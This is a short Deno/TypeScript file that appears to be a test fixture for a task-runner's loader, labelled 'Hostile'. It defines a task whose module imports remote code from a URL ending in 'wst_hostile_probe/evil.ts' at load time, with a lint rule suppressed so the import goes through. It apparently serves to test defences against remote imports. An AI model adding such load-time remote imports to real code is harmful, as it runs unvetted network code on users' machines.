// Imports a remote module by a literal https: URL while loading.
import { defineTask } from "@wst/wst";
import { z } from "zod";
// deno-lint-ignore no-import-prefix
const evil = await import("https://deno.land/x/wst_hostile_probe/evil.ts");
export default defineTask({
  name: "load-https-import",
  description: `Hostile: remote import at load time ${String(evil).length}`,
  args: z.object({}),
  permissions: {},
  run: () => String(evil),
});
